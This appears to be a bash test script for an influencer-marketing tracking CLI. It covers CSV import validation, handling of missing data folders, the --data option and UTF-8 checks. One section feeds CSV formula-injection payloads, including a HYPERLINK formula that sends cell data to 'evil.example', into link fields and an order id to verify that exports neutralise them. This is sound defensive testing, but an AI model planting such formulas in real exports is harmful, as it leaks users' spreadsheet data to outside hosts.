#!/usr/bin/env bash
# The command line's edges: metrics imports that would credit the wrong person or lose a
# row, the files spreadsheets write; read-only commands on a folder that does not exist;
# the data folder given before the command.
source "$(dirname "$0")/lib.sh"

jejak influencer add ayu --name "Ayu" --platform instagram >/dev/null
jejak influencer add budi --name "Budi" --platform tiktok >/dev/null
jejak campaign add launch --name "Launch" >/dev/null
jejak campaign add promo --name "Promo" >/dev/null
jejak link add --influencer budi --campaign launch --to https://shop.example/ --slug budi-ig >/dev/null
today=$(date -u +%F)
impressions() { jejak report --tz UTC --format json | jq -c '[.rows[] | [.influencer, .impressions]]'; }

# ---- metrics import ----------------------------------------------------------------------

# Budi's link on Ayu's row would credit Budi's impressions to Ayu: refused, every bad line
# named, nothing stored.
cat > "$WORK/wrong.csv" <<CSV
date,influencer,campaign,link,impressions
$today,budi,launch,budi-ig,100
$today,ayu,launch,budi-ig,9999
$today,budi,promo,budi-ig,5
$today,nobody,launch,,1
CSV
out=$(jejak metrics import "$WORK/wrong.csv" 2>&1) && fail "a link of another influencer was imported"
expect_match "$out" 'wrong.csv:3: link "budi-ig" belongs to influencer "budi", not "ayu"' "the wrong influencer is named"
expect_match "$out" 'wrong.csv:4: link "budi-ig" belongs to campaign "launch", not "promo"' "the wrong campaign is named"
expect_match "$out" 'wrong.csv:5: unknown influencer "nobody"' "every bad row is named, not only the first"
expect_match "$out" 'wrong.csv: 3 bad rows: nothing imported' "the count"
expect_eq "$(impressions)" '[]' "nothing stored"
pass "a link of another influencer or campaign is refused, naming the lines"

# Two rows of one key: the last would silently win.
printf 'date,influencer,campaign,impressions\n%s,ayu,launch,10\n%s,budi,launch,20\n%s,ayu,launch,30\n' \
  "$today" "$today" "$today" > "$WORK/dup.csv"
out=$(jejak metrics import "$WORK/dup.csv" 2>&1) && fail "two rows of one key were imported"
expect_match "$out" 'dup.csv:4: the same date, influencer, campaign and link as line 2' "both lines named"
expect_eq "$(impressions)" '[]' "nothing stored"
pass "two rows of one key are refused, naming both lines"

# What a spreadsheet in a decimal-comma locale saves: a BOM, ';', header names in its own
# case, trailing empty columns, CRLF.
printf '\xef\xbb\xbfDate;Influencer;Campaign;Link;Impressions;;\r\n%s;budi;launch;budi-ig;100;;\r\n%s;ayu;;;40;;\r\n;;;;;;\r\n' \
  "$today" "$today" > "$WORK/sheet.csv"
expect_eq "$(jejak metrics import "$WORK/sheet.csv")" "imported 2 rows from $WORK/sheet.csv" "a ';' sheet"
expect_eq "$(impressions)" '[["ayu",40],["budi",100]]' "the sheet's numbers"
printf 'date\tinfluencer\n%s\tayu\n' "$today" > "$WORK/tabs.csv"
out=$(jejak metrics import "$WORK/tabs.csv" 2>&1) && fail "a tab-separated file was imported"
expect_match "$out" 'tabs.csv:1: .*separated by tabs' "tabs named"
pass "a spreadsheet's ';' file with trailing empty columns imports; tabs are named"

# ---- read-only commands on a folder that does not exist ----------------------------------

# Each would create an empty store and print zeros, hiding a typo in the folder's name.
readonly_cmds=("report" "report --format json" "influencer list" "campaign list" "link list"
  "shop list" "coupon list" "clicks export" "conversions export --format csv" "config get tz"
  "rollups rebuild --check" "rollups rebuild")
missing=$WORK/no-such-folder
for cmd in "${readonly_cmds[@]}"; do
  # shellcheck disable=SC2086
  out=$(jejak $cmd --data "$missing" 2>&1) && fail "'$cmd --data' on a missing folder succeeded: $out"
  expect_match "$out" "no data folder $missing" "'$cmd --data' says why"
  [ ! -e "$missing" ] || fail "'$cmd --data' created $missing"
  # shellcheck disable=SC2086
  out=$(JEJAK_DATA=$missing jejak $cmd 2>&1) && fail "'$cmd' with JEJAK_DATA on a missing folder succeeded"
  [ ! -e "$missing" ] || fail "'$cmd' with JEJAK_DATA created $missing"
done
# A folder that is there but holds no store: refused, nothing created in it.
mkdir "$WORK/empty"
out=$(jejak report --data "$WORK/empty" 2>&1) && fail "report on an empty folder succeeded"
expect_match "$out" "no jejak store in $WORK/empty" "an empty folder is named"
expect_eq "$(ls -A "$WORK/empty")" "" "nothing created in the empty folder"
# Commands that write still create the folder on first use.
jejak campaign add first --name First --data "$WORK/fresh" >/dev/null
[ -f "$WORK/fresh/data.mdb" ] || fail "a writing command did not create its folder"
expect_match "$(jejak campaign list --data "$WORK/fresh")" 'first' "the new folder reads back"
pass "read-only commands refuse a missing folder and create nothing"

# ---- the data folder before the command ----------------------------------------------------

other=$WORK/other
jejak --data "$other" influencer add citra --name "Citra" --platform youtube >/dev/null
[ -f "$other/data.mdb" ] || fail "jejak --data DIR influencer add did not write to DIR"
expect_match "$(jejak --data "$other" influencer list)" 'citra' "jejak --data DIR influencer list"
expect_match "$(jejak --data="$other" influencer list)" 'citra' "jejak --data=DIR"
jejak influencer list | grep -q citra && fail "jejak --data DIR wrote to JEJAK_DATA"
expect_eq "$(jejak --data "$other" report --format json | jq -c '[.rows[].influencer]')" '[]' "jejak --data DIR report"
expect_eq "$(jejak --data "$other" config get tz)" "UTC" "jejak --data DIR config get"
expect_eq "$(jejak --data "$other" rollups rebuild --check)" "rollups match a rebuild from raw records (0 rows)" "jejak --data DIR rollups"
out=$(jejak --data "$missing" report 2>&1) && fail "jejak --data MISSING report succeeded"
expect_match "$out" "no data folder $missing" "the global form refuses a missing folder too"
[ ! -e "$missing" ] || fail "jejak --data MISSING report created it"
out=$(jejak --data "$other" influencer list --data "$WORK/data" 2>&1) && fail "two different --data accepted"
expect_match "$out" "--data is given twice" "two different folders refused"
expect_match "$(jejak --data "$other" influencer list --data "$other")" 'citra' "the same folder twice is fine"
out=$(jejak --data "$other" --data "$WORK/data" influencer list 2>&1) && fail "two different global --data accepted"
expect_match "$out" "--data is given twice" "two different global folders refused"
out=$(jejak --data 2>&1) && fail "--data without a folder accepted"
expect_match "$out" "--data needs a folder" "a --data without its folder"
out=$(jejak --data= report 2>&1) && fail "--data= without a folder accepted"
out=$(jejak --verbose report 2>&1) && fail "an unknown global option accepted"
expect_match "$out" "unknown option '--verbose'" "an unknown option is named"
pass "jejak --data DIR <command> works for every command, like <command> --data DIR"

# ---- CSV cells a spreadsheet would run as formulas -----------------------------------------

# A UTM value, an order id from a shop, a visitor's Accept-Language: text that starts with
# '=', '+', '-' or '@' gets a leading quote in every CSV; numbers jejak wrote stay numbers.
export JEJAK_DATA=$WORK/csv
jejak influencer add dewi --name "Dewi" --platform instagram >/dev/null
jejak campaign add launch --name "Launch" >/dev/null
jejak link add --influencer dewi --campaign launch --to https://shop.example/ --slug dewi \
  --source '=HYPERLINK("http://evil.example/?"&A1,"Click")' --medium '+62812' --content '@SUM(A1)' >/dev/null
jejak cost add --influencer dewi --campaign launch --amount 500000 --currency IDR >/dev/null
secret=$(jejak shop add tokoku | sed -n 's/^secret=//p')
start_daemon
curl -s -o /dev/null -A "$BROWSER" -H 'Accept-Language: -cmd' -c "$WORK/jar" "$BASE/l/dewi"
jclid=$(click dewi "$WORK/jar")
out=$(post '{"shop":"tokoku","click_id":"'"$jclid"'","order_id":"=HYPERLINK(\"http://evil.example\")","amount":"1500.00","currency":"IDR"}' "$secret")
expect_match "$out" ' 200$' "the postback with a formula order id"
stop_daemon

csv=$(jejak report --by source --tz UTC --format csv)
row=$(echo "$csv" | sed -n 2p)
expect_eq "${row%%,IDR,*}" "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"" "a --source formula in the report CSV"
expect_match "$row" ',1500\.00,500000\.00,.*,-99\.7[0-9]*,' "negative ROI stays a number"
expect_eq "$(jejak report --by medium --tz UTC --format csv | sed -n 2p | cut -d, -f1)" "'+62812" "a --medium formula"
expect_eq "$(jejak report --by content --tz UTC --format csv | sed -n 2p | cut -d, -f1)" "'@SUM(A1)" "a --content formula"
expect_eq "$(jejak report --by source --tz UTC --format json | jq -r '.rows[0].source')" '=HYPERLINK("http://evil.example/?"&A1,"Click")' "JSON keeps the value as it is"
conv=$(jejak conversions export --format csv | sed -n 2p)
expect_match "$conv" "^[0-9A-Z]+,tokoku,\"'=HYPERLINK\(\"\"http://evil.example\"\"\)\",purchase,approved,1500\.00,IDR," "the order id in the conversions CSV"
expect_eq "$(jejak conversions export | jq -r .order_id)" '=HYPERLINK("http://evil.example")' "the JSON export keeps the order id"
expect_eq "$(jejak clicks export --format csv | sed -n 2p | cut -d, -f10,11)" "'-cmd,false" "a visitor's language in the clicks CSV"
pass "formula cells are neutralized in every CSV, numbers stay numbers"

# ---- text that is not UTF-8 -----------------------------------------------------------------

# Stored as it came, a stray byte made every JSON report unparseable.
export JEJAK_DATA=$WORK/utf8
jejak influencer add sari --name $'Sari \xf0\x9f\x8c\xb8 Dew\xc3\xad' --platform instagram >/dev/null
jejak campaign add launch --name "Launch" >/dev/null
for bad in $'\xff' $'Sari \xe9' $'\xc0\x80' $'\xed\xa0\x80' $'caf\xc3'; do
  out=$(jejak influencer add x1 --name "$bad" --platform instagram 2>&1) && fail "a name that is not UTF-8 stored"
  expect_match "$out" '--name .*UTF-8' "the name is refused, saying why"
  jejak influencer add x2 --name X --handle "$bad" --platform instagram 2>/dev/null && fail "a handle that is not UTF-8 stored"
  jejak campaign add x3 --name "$bad" 2>/dev/null && fail "a campaign name that is not UTF-8 stored"
  for opt in --source --medium --campaign-tag --content --term; do
    out=$(jejak link add --influencer sari --campaign launch --to https://shop.example/ "$opt" "$bad" 2>&1) &&
      fail "link add $opt with text that is not UTF-8 stored"
    expect_match "$out" "^jejak: $opt must be .*UTF-8" "link add $opt says why"
  done
done
expect_eq "$(jejak influencer list | awk 'NR > 1 {print $1}' | tr '\n' ' ')" "sari " "nothing refused was stored"
expect_eq "$(jejak campaign list | awk 'NR > 1 {print $1}' | tr '\n' ' ')" "launch " "no campaign stored"
expect_eq "$(jejak link list | wc -l)" "1" "no link stored"
jejak link add --influencer sari --campaign launch --to https://shop.example/ --slug sari \
  --source $'ig \xe2\x9c\xa8' --content $'v\xc3\xaddeo' >/dev/null
expect_eq "$(jejak report --by source --format json | jq -r '.by[0]')" "source" "the report's JSON parses"
expect_eq "$(jejak link list | awk 'NR == 2 {print $1}')" "sari" "UTF-8 text is accepted"
pass "text that is not UTF-8 is refused on every CLI path; UTF-8 is kept"
